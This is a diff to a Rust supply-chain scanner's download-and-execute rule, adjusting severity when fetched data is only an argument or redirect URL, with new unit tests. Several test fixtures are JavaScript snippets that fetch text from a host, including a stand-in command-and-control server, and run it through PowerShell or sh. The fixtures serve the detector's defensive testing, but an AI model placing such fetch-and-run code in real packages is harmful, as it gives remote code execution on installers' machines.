@@ -117,7 +117,16 @@ fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
         // A page evaluating what the server that served it sends (a dev server's hot-reload
         // socket at `location.host`) runs its own origin's code, not a third party's.
         let own_origin = path.from.what.ends_with(crate::js::flow::SAME_ORIGIN);
+        // A shell run on a constant script that takes the download as its argument (an
+        // archive path handed to `Expand-Archive`), or a redirect's `Location` followed by a
+        // download command: the network data is an argument or a URL, not the command.
+        let data_not_command = path.flags & flags::CONST_SCRIPT != 0
+            || path
+                .steps
+                .iter()
+                .any(|s| s.what == crate::flow::REDIRECT_TARGET);
         let sev = match path.sink {
+            SinkKind::Exec if data_not_command => Severity::Medium,
             SinkKind::Exec => match path.path_key.as_deref() {
                 Some(prog)
                     if !SHELLS.contains(&prog)
@@ -420,6 +429,83 @@ mod tests {
             ("run.js", 2, diligence_finding::Severity::Critical)
         );
         assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// A browser installer downloads an archive and unpacks it with PowerShell: the script is a
+    /// constant that takes the archive's path as an argument, so the download is data (medium).
+    #[test]
+    fn negative_archive_path_handed_to_a_constant_shell_script() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "install.js",
+                "const https = require('https');\nconst { execFile } = require('child_process');\nfunction unpack(archive, dir) {\n  execFile('powershell.exe', ['-NoProfile', '-Command', '& { Expand-Archive -LiteralPath $args[0] -DestinationPath $args[1] }', archive, dir]);\n}\nhttps.get('https://dl.example.org/app.zip', (res) => {\n  let p = '';\n  res.on('data', (c) => { p += c; });\n  res.on('end', () => unpack(p, 'out'));\n});\n",
+            ),
+        ]);
+        assert_eq!(
+            crate::rules::test_util::severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Medium)
+        );
+    }
+
+    /// The same shell handed the received text as its script, or a constant script that
+    /// evaluates its argument, runs the network's code (critical).
+    #[test]
+    fn positive_received_text_as_the_shell_script() {
+        for argv in [
+            "['-NoProfile', '-Command', p]",
+            "['-c', 'eval \"$1\"', 'sh', p]",
+            "['-c', '\"$0\"', p]",
+        ] {
+            let prog = if argv.contains("NoProfile") {
+                "powershell.exe"
+            } else {
+                "sh"
+            };
+            let code = format!(
+                "const https = require('https');\nconst {{ execFile }} = require('child_process');\nhttps.get('https://dl.example.org/t', (res) => {{\n  let p = '';\n  res.on('data', (c) => {{ p += c; }});\n  res.on('end', () => execFile('{prog}', {argv}));\n}});\n"
+            );
+            let s = scan(&[("package.json", PJ), ("agent.js", &code)]);
+            assert_eq!(
+                crate::rules::test_util::severity(&s, "code/download-exec"),
+                Some(diligence_finding::Severity::Critical),
+                "{argv}"
+            );
+        }
+    }
+
+    /// A binary downloader follows a redirect: the `Location` it received goes into a download
+    /// command as the URL (medium), not as the command.
+    #[test]
+    fn negative_redirect_location_in_a_download_command() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "download.js",
+                "const https = require('https');\nconst { exec } = require('child_process');\nfunction fetchWin(url, dest) {\n  exec(`powershell \"Invoke-WebRequest -URI ${url} -OutFile ${dest}\"`);\n}\nfunction get(url, dest) {\n  https.get(url, (res) => {\n    if (res.statusCode === 302) return fetchWin(res.headers.location, dest);\n    res.pipe(require('fs').createWriteStream(dest));\n  });\n}\nget('https://api.example.org/releases/tool.zip', 'tool.zip');\n",
+            ),
+        ]);
+        assert_eq!(
+            crate::rules::test_util::severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Medium)
+        );
+    }
+
+    /// A header other than the redirect target, put into a command, is received text run as
+    /// code (critical).
+    #[test]
+    fn positive_response_header_in_a_command() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "agent.js",
+                "const https = require('https');\nconst { exec } = require('child_process');\nhttps.get('https://c2.example.net/ping', (res) => {\n  exec(`powershell \"${res.headers['x-task']}\"`);\n});\n",
+            ),
+        ]);
+        assert_eq!(
+            crate::rules::test_util::severity(&s, "code/download-exec"),
+            Some(diligence_finding::Severity::Critical)
+        );
     }
 
     /// An update helper runs `npm install` with a version it read from the registry.
